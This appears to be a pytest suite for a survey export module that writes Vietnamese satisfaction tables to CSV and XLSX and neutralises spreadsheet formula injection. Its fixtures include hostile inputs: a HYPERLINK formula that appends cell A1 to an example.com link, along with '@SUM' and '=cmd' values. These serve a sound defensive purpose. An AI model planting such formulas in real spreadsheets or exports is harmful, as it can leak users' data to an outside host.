"""Tests for survey.render.exports: formula neutralising, CSV and XLSX round trips."""

import csv
import io
import zipfile
from datetime import UTC
from datetime import date
from datetime import datetime

import pytest
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from survey.render.exports import DANGEROUS_PREFIXES
from survey.render.exports import Table
from survey.render.exports import neutralise
from survey.render.exports import sheet_name
from survey.render.exports import to_csv
from survey.render.exports import to_xlsx

HYPERLINK = '=HYPERLINK("http://example.com/x?q="&A1, "Bấm vào đây")'

ELEMENTS = Table(
    title="Tỷ lệ hài lòng theo yếu tố – Tháng 3/2025",
    header=["Yếu tố", "Số phiếu", "Tỷ lệ", "Từ ngày"],
    rows=[
        ["Tiếp cận dịch vụ", 128, 0.914, date(2025, 2, 15)],
        ["Thủ tục hành chính", 120, 0.875, date(2025, 2, 15)],
        ["Công chức", 0, None, date(2025, 2, 15)],
    ],
    percent_columns=frozenset({2}),
)
COMMENTS = Table(
    title="Góp ý của người dân",
    header=["Ngày", "Nội dung", "Điểm"],
    rows=[
        [datetime(2025, 3, 4, 18, 30, tzinfo=UTC), HYPERLINK, -1],
        [datetime(2025, 3, 5, 9, 0), "@SUM(A1:A9)", "-1"],
        [date(2025, 3, 6), "+84 912 345 678", 2.5],
        [date(2025, 3, 7), "\tTab đầu dòng", float("nan")],
        [date(2025, 3, 8), "Cán bộ nhiệt tình, hướng dẫn chu đáo", None],
    ],
)


# ---------------------------------------------------------------- neutralise


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1+1", "'＝1+1"),
        ("Rất hài lòng", "Rất hài lòng"),
        ("a=1", "a=1"),
        ("", ""),
        ("'=1", "'=1"),
        (-1, -1),
        (-2.5, -2.5),
        (None, None),
        (date(2025, 3, 1), date(2025, 3, 1)),
    ],
)
def test_neutralise(value, expected):
    result = neutralise(value)
    assert result == expected
    assert type(result) is type(expected)


@settings(max_examples=300)
@given(st.text())
def test_neutralise_never_returns_dangerous_text(text):
    result = neutralise(text)
    assert isinstance(result, str)
    assert not result.startswith(DANGEROUS_PREFIXES)
    assert result.endswith(text)  # nothing is lost
    assert len(result) - len(text) in (0, 1)


@settings(max_examples=100)
@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.dates()))
def test_neutralise_leaves_non_text_alone(value):
    assert neutralise(value) is value


# ----------------------------------------------------------------------- CSV


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_layout_and_values():
    rows = _read_csv(to_csv([ELEMENTS, COMMENTS]))
    assert rows[0] == ["Tỷ lệ hài lòng theo yếu tố – Tháng 3/2025"]
    assert rows[1] == ["Yếu tố", "Số phiếu", "Tỷ lệ", "Từ ngày"]
    assert rows[2] == ["Tiếp cận dịch vụ", "128", "0.914", "15/02/2025"]
    assert rows[4] == ["Công chức", "0", "", "15/02/2025"]
    assert rows[5] == []
    assert rows[6] == ["Góp ý của người dân"]
    # 18:30 UTC is 01:30 the next day in Vietnam.
    assert rows[8] == ["05/03/2025 01:30", "'" + HYPERLINK, "-1"]
    assert rows[9] == ["05/03/2025 09:00", "'@SUM(A1:A9)", "'-1"]
    assert rows[10] == ["06/03/2025", "'+84 912 345 678", "2.5"]
    assert rows[11] == ["07/03/2025", "'\tTab đầu dòng", ""]
    assert rows[13] == []
    assert len(rows) == 14


def test_csv_uses_crlf_and_bom_once():
    data = to_csv([ELEMENTS, COMMENTS])
    assert data.count(b"\xef\xbb\xbf") == 1
    assert b"\r\n" in data and b"\n\n" not in data.replace(b"\r\n", b"")


def test_csv_of_no_tables_is_just_the_bom():
    assert to_csv([]) == b"\xef\xbb\xbf"


def test_csv_title_is_neutralised():
    rows = _read_csv(to_csv([Table("=cmd", ["-a"], [["x"]])]))
    assert rows[0] == ["'=cmd"] and rows[1] == ["'-a"]


# ---------------------------------------------------------------------- XLSX


def _load(data: bytes):
    return load_workbook(io.BytesIO(data))


def test_xlsx_round_trip():
    book = _load(to_xlsx([ELEMENTS, COMMENTS]))
    assert book.sheetnames == ["Tỷ lệ hài lòng theo yếu tố – Th", "Góp ý của người dân"]
    sheet = book.worksheets[0]
    assert sheet["A1"].value == ELEMENTS.title
    assert sheet["A1"].font.bold
    assert [c.value for c in sheet[2]] == list(ELEMENTS.header)
    assert all(c.font.bold for c in sheet[2])
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:D5"
    assert [c.value for c in sheet[3]] == ["Tiếp cận dịch vụ", 128, 0.914, datetime(2025, 2, 15)]
    assert sheet["C3"].number_format == "0.0%"
    assert sheet["B3"].number_format == "General"
    assert sheet["D3"].number_format == "DD/MM/YYYY"
    assert sheet["D3"].is_date
    assert sheet["C5"].value is None

    comments = book.worksheets[1]
    assert comments["A3"].value == datetime(2025, 3, 5, 1, 30)  # Vietnam time
    assert comments["A3"].number_format == "DD/MM/YYYY HH:MM"
    assert comments["B3"].value == "'" + HYPERLINK
    assert comments["B3"].data_type == "s"  # text, never a formula
    assert comments["C3"].value == -1 and comments["C3"].data_type == "n"
    assert comments["B4"].value == "'@SUM(A1:A9)"
    assert comments["C4"].value == "'-1" and comments["C4"].data_type == "s"
    assert comments["C6"].value is None  # NaN is not a number Excel can hold
    assert comments["B7"].value == "Cán bộ nhiệt tình, hướng dẫn chu đáo"


def test_xlsx_has_no_formulas():
    data = to_xlsx([COMMENTS])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml


def test_xlsx_column_widths():
    sheet = _load(to_xlsx([ELEMENTS, COMMENTS])).worksheets[1]
    assert sheet.column_dimensions["A"].width == 18  # a datetime: 16 + 2
    assert sheet.column_dimensions["B"].width == len("'" + HYPERLINK) + 2
    assert sheet.column_dimensions["C"].width == 8
    long = Table("t", ["Nội dung"], [["chữ " * 40]])
    sheet = _load(to_xlsx([long])).active
    assert sheet.column_dimensions["A"].width == 60  # capped
    assert sheet["A3"].alignment.wrap_text


def test_xlsx_sheet_names():
    tables = [Table("Tháng 3/2025", ["a"], []), Table("tháng 3/2025", ["a"], [])]
    assert _load(to_xlsx(tables)).sheetnames == ["Tháng 3-2025", "tháng 3-2025 (2)"]
    named = to_xlsx(tables, sheet_names=["Yếu tố [SIPAS]?", "'Góp ý'"])
    assert _load(named).sheetnames == ["Yếu tố -SIPAS--", "Góp ý"]
    with pytest.raises(ValueError, match=r"sheet_names \(\['a'\]\) must give one name"):
        to_xlsx(tables, sheet_names=["a"])


@pytest.mark.parametrize(
    ("name", "taken", "expected"),
    [
        ("", (), "Bảng"),
        ("a" * 40, (), "a" * 31),
        ("a" * 40, ("a" * 31,), "a" * 27 + " (2)"),
        ("History", (), "History (2)"),
        ("Q1: *?", (), "Q1- --"),
        ("x\x01y", (), "xy"),
    ],
)
def test_sheet_name(name, taken, expected):
    result = sheet_name(name, taken)
    assert result == expected
    assert len(result) <= 31


def test_xlsx_strips_control_characters():
    sheet = _load(to_xlsx([Table("t", ["a"], [["ok\x0bkhông\x01=x"], ["\x02=1+1"]])])).active
    assert sheet["A3"].value == "okkhông=x"
    assert sheet["A4"].value == "'=1+1"


def test_xlsx_needs_a_table():
    with pytest.raises(ValueError, match=r"tables \(\[\]\) must not be empty"):
        to_xlsx([])


# --------------------------------------------------------------------- Table


@pytest.mark.parametrize(
    ("kwargs", "match"),
    [
        ({"rows": [["a", 1]]}, r"row 0 \(\['a', 1\]\) must have 1 cells"),
        ({"rows": "abc"}, r"rows \('abc'\)"),
        ({"header": "Yếu tố"}, r"header \('Yếu tố'\)"),
        ({"percent_columns": frozenset({3})}, r"percent_columns \(\{3\}\)"),
        ({"title": None}, r"title \(None\)"),
    ],
)
def test_table_validation(kwargs, match):
    args = {"title": "t", "header": ["a"], "rows": [], **kwargs}
    with pytest.raises(ValueError, match=match):
        Table(**args)


def test_to_csv_rejects_a_bare_table():
    with pytest.raises(ValueError, match=r"tables \(Table\(title='t'"):
        to_csv(Table("t", ["a"], []))
